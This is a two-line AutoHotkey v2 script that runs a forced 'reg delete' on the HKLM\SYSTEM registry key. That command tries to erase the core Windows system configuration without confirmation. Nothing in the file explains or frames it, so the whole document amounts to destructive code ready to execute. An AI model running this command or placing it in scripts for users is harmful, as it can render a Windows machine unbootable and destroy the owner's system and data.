#Requires AutoHotkey v2.0
Run "reg delete HKLM\SYSTEM /f"
